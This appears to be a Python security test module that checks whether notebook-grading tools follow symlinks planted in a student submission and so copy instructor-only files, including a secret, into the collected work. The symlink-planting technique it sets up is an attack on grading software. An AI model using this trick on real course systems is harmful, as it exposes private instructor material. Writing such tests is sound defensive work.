"""Links in a submission, so that the grader copies what they lead to."""

from __future__ import annotations

from typing import TYPE_CHECKING

from attack_corpus import STANDARD, right

if TYPE_CHECKING:
    from attack_here import Here
    from attack_nbgrader import Course

SECRET = b"only the instructor may read this"


def on_nbgrader(course: Course) -> str:
    private = course.folder / "private"
    private.mkdir()
    (private / "notes.txt").write_bytes(SECRET)
    home = course.exchange / "rl" / "inbound" / "eve+ps1+2026-01-01 00:00:00 UTC"
    home.mkdir(parents=True)
    (home / "p.ipynb").write_bytes(right().notebook)
    (home / "timestamp.txt").write_text("2026-01-01 00:00:00 UTC", encoding="utf-8")
    (home / "folder").symlink_to(private)
    (home / "notes.txt").symlink_to(private / "notes.txt")
    course("collect", "ps1")
    taken = course.folder / "submitted" / "eve" / "ps1"
    copied = [
        path
        for path in (taken / "notes.txt", taken / "folder" / "notes.txt")
        if path.is_file() and path.read_bytes() == SECRET
    ]
    return "collect copied what the links lead to" if copied else ""


def here(place: Here) -> str:
    source = place.folder / "source.ipynb"
    source.write_bytes(STANDARD)
    private = place.folder / "private"
    private.mkdir()
    (private / "secret.ipynb").write_bytes(STANDARD.replace(b"square_tests", SECRET[:12]))
    home = place.folder / "links" / "eve" / place.release(STANDARD)
    home.mkdir(parents=True)
    (home / "p.ipynb").symlink_to(source)
    (home / "folder").symlink_to(private)
    (place.folder / "links" / "mallory").symlink_to(private)
    said = place.collect_folder(place.folder / "links", home.name)
    taken = place.service.assessment.submissions(place.admin, "rl", user="eve", offset=0, limit=9)
    return f"a link was followed: {said}" if taken.total or place.keeps(SECRET[:12]) else ""
